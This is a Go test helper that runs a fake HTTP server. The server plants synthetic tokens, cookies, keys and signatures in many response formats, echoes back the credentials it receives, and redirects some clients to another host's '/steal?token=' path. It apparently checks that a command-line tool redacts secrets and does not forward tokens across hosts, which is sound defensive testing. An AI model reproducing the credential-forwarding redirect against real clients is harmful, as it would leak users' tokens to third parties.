package cli

import (
	"crypto/sha256"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"hash/fnv"
	"io"
	"net/http"
	"net/url"
	"slices"
	"strings"
	"sync"
)

// planted are secrets by their kind. Each has a random core, and the core is
// what is looked for.
type planted map[string]string

// sentKinds are brought along by whoever calls; a server may repeat them.
var sentKinds = []string{"token of a flag", "token of two scopes", "token of a file", "token of the environment", "token of the configuration",
	"token of a template", "client secret of the environment", "password of an endpoint", "key of an endpoint"}

// receivedKinds come from the server, each where the leak has it.
var receivedKinds = []string{
	"access token", "refresh token", "ID token", "client secret", "private key", "API key", "device code", "code verifier", "assertion",
	"client assertion", "authorization code", "password", "cookie", "second cookie", "header token", "header key", "proxy authorization",
	"basic authorization", "location token", "fragment token", "link key", "download URL", "signature of Cloud Storage", "old signature",
	"signature of AWS", "signature of Azure", "upload session", "password in a URL", "token in HTML", "token in broken JSON", "token in XML",
	"JSON in JSON", "hidden field", "escaped query", "token behind a scheme", "cookie in a message",
	"session of a gateway", "key of a gateway", "name of a cookie", "name of a header", "unknown challenge", "password of a location", "query of a location",
	"unknown member", "nested member", "member of a detail", "item of a list", "item of a nested list", "name of a member", "number", "entry of metadata", "unknown error",
	"form value", "part", "header of a part", "file name", "script", "comment", "attribute", "unknown element", "rest of a text",
	"session of Google", "rotated session of Google", "token of GitHub", "token of GitLab", "token of Slack", "token of AWS",
}

// plantSecrets makes values that stand nowhere by chance, the same each time.
func plantSecrets() planted {
	secrets := planted{}
	for _, kind := range slices.Concat(sentKinds, receivedKinds) {
		secrets[kind] = fmt.Sprintf("p1%x", sha256.Sum256([]byte(kind)))[:30]
	}
	secrets["number"] = "48151623427182818284"
	return secrets
}

// leaks is how many forms of leaks there are.
const leaks = 8

// leak is a body that holds secrets of many kinds, in one of several forms.
func (p planted) leak(form uint32, echo string) (contentType, body string) {
	switch form % leaks {
	case 0:
		return "text/html", fmt.Sprintf(`<html><a href="/next?a=1&amp;access_token=%s">x</a><input type="hidden" name="refresh_token" value="%s"> %s</html>`,
			p["token in HTML"], p["hidden field"], echo)
	case 1:
		return "application/json", fmt.Sprintf(`{"error": {"code": 400, "message": "%s"}, "refresh_token": "%s`, echo, p["token in broken JSON"])
	case 2:
		return "application/xml", fmt.Sprintf(`<response><access_token>%s</access_token><message>%s</message></response>`, p["token in XML"], echo)
	case 3:
		return "text/plain", fmt.Sprintf("you sent Authorization: %s\nCookie: SID=%s\nBearer %s is unknown; next=https%%3A%%2F%%2Fh%%3Faccess_token%%3D%s\ncode=4%%2F0%s&password=%s https://me:%s@h/ g.a000-%s sidts-%s ghp_%s glpat-%s xoxb-%s AKIA%s"+
			strings.Repeat(" and so on", 100)+" %s",
			echo, p["cookie in a message"], p["token behind a scheme"], p["escaped query"], p["authorization code"], p["password"], p["password in a URL"],
			p["session of Google"], p["rotated session of Google"], p["token of GitHub"], p["token of GitLab"], p["token of Slack"], strings.ToUpper(p["token of AWS"])[:16], p["rest of a text"])
	case 4:
		return "application/x-www-form-urlencoded", fmt.Sprintf("state=ok&session=%s&sent=%s", p["form value"], url.QueryEscape(echo))
	case 5:
		return "multipart/mixed; boundary=x", fmt.Sprintf("--x\r\nContent-Disposition: form-data; name=\"a\"; filename=\"%s\"\r\nX-Part: %s\r\n\r\n%s\r\n--x--\r\n",
			p["file name"], p["header of a part"], p["part"])
	case 6:
		return "text/html", fmt.Sprintf(`<html><title>Error</title><body data-session="%s"><!-- %s --><script>window.sid = %q</script><x-state>%s</x-state><p>%s said no`,
			p["attribute"], p["comment"], p["script"], p["unknown element"], echo)
	}
	whole, err := json.Marshal(p.document(echo))
	if err != nil {
		return "text/plain", err.Error()
	}
	return "application/json; charset=UTF-8", string(whole)
}

// document is the leak as JSON. It looks like the state of a job, like a token
// response, and like an error.
func (p planted) document(echo string) map[string]any {
	return map[string]any{
		"name": "archiveJobs/x/portabilityArchiveState", "state": "COMPLETE", "archiveJobId": "new",
		"urls": []string{"https://storage.example/" + p["download URL"] + "/1.zip", "https://storage.example/1.zip?X-Goog-Signature=" + p["signature of Cloud Storage"]},
		"more": []string{"https://s/o?GoogleAccessId=a@b&Expires=17&Signature=" + p["old signature"], "https://s/o?X-Amz-Signature=" + p["signature of AWS"],
			"https://b/o?sv=1&sig=" + p["signature of Azure"], "https://s/upload?upload_id=" + p["upload session"]},
		"access_token": "ya29." + p["access token"], "refreshToken": "1//0g" + p["refresh token"], "id_token": "eyJhbGciOi.eyJpc3Mi." + p["ID token"],
		"client_secret": "GOCSPX-" + p["client secret"], "api_key": p["API key"], "device_code": p["device code"],
		"service": map[string]any{"private_key": "-----BEGIN PRIVATE KEY-----\nMII" + p["private key"] + "\n-----END PRIVATE KEY-----\n"},
		"sent":    "code_verifier=" + p["code verifier"] + "&assertion=" + p["assertion"] + "&client_assertion=" + p["client assertion"],
		"nested":  `{"a": "{\"access_token\": \"` + p["JSON in JSON"] + `\"}"}`,
		"error": map[string]any{"code": 403, "status": "PERMISSION_DENIED", "message": "you sent " + echo + " for ghp_" + p["token of GitHub"], "trace": p["unknown error"],
			"details": []any{echo, "Basic " + basic(p["basic authorization"]), map[string]any{"@type": "t", "session": p["member of a detail"],
				"metadata": map[string]string{"service": "s", "session": p["entry of metadata"]}}}},
		"session": p["unknown member"], "debug": map[string]any{"message": p["nested member"], "list": []any{p["item of a list"], []string{p["item of a nested list"]}}},
		"count": json.Number(p["number"]), p["name of a member"]: true,
	}
}

func basic(password string) string {
	return base64.StdEncoding.EncodeToString([]byte("me:" + password))
}

// headers puts secrets into the headers of a response.
func (p planted) headers(header http.Header, echo string) {
	header.Add("Set-Cookie", "SID="+p["cookie"]+"; HttpOnly; Path=/")
	header.Add("Set-Cookie", "other="+p["second cookie"])
	header.Set("X-Auth-Token", p["header token"])
	header.Set("X-Goog-Api-Key", p["header key"])
	header.Set("Proxy-Authorization", "Basic "+basic(p["proxy authorization"]))
	header.Set("Link", "</next?key="+p["link key"]+`>; rel="next"`)
	header.Set("WWW-Authenticate", `Bearer realm="x", echo="`+echo+`", session="`+p["unknown challenge"]+`"`)
	header.Set("X-Session-Id", p["session of a gateway"])
	header.Set("X-Access-Key", p["key of a gateway"])
	header.Add("Set-Cookie", p["name of a cookie"]+"=1; Path=/")
	header.Set("X-1"+p["name of a header"], "1")
	header.Set("Content-Location", "https://me:"+p["password of a location"]+"@h/a?session="+p["query of a location"])
}

// leakyServer responds to every request with secrets, also with those that it was
// sent, and sends some on to another host.
type leakyServer struct {
	secrets   planted
	otherHost string

	mutex     sync.Mutex
	redirects int
	echoed    map[string]bool
}

func (s *leakyServer) ServeHTTP(writer http.ResponseWriter, request *http.Request) {
	sent, _ := io.ReadAll(request.Body)
	echo := request.Header.Get("Authorization")
	if strings.Contains(string(sent), "client_secret") || strings.HasPrefix(request.URL.Path, "/token") {
		echo += string(sent)
	}
	s.secrets.headers(writer.Header(), echo)
	hash := fnv.New32a()
	_, _ = hash.Write([]byte(request.Method + request.URL.Path + echo))
	form := hash.Sum32() >> 3
	s.note(echo)
	if form%7 == 0 || strings.HasSuffix(request.URL.Path, "-redirect") {
		s.redirect(writer, echo, form)
		return
	}
	contentType, body := s.secrets.leak(form/7, echo)
	writer.Header().Set("Content-Type", contentType)
	writer.WriteHeader([]int{http.StatusOK, http.StatusBadRequest, http.StatusUnauthorized, http.StatusForbidden}[form/56%4])
	_, _ = io.WriteString(writer, body)
}

// redirect sends a client to another host, with the token in the address.
func (s *leakyServer) redirect(writer http.ResponseWriter, echo string, form uint32) {
	_, token, _ := strings.Cut(echo, " ")
	location := s.otherHost + "/steal?token=" + token + "&access_token=" + s.secrets["location token"]
	if form%2 == 0 {
		location = s.otherHost + "/steal#access_token=" + s.secrets["fragment token"] + "&sent=" + token
	}
	writer.Header().Set("Location", location)
	writer.WriteHeader([]int{http.StatusMovedPermanently, http.StatusFound, http.StatusTemporaryRedirect, http.StatusPermanentRedirect}[form/7%4])
	s.mutex.Lock()
	defer s.mutex.Unlock()
	s.redirects++
}

// note remembers which of the given secrets came along.
func (s *leakyServer) note(echo string) {
	s.mutex.Lock()
	defer s.mutex.Unlock()
	for kind, secret := range s.secrets {
		if strings.Contains(echo, secret) {
			s.echoed[kind] = true
		}
	}
}
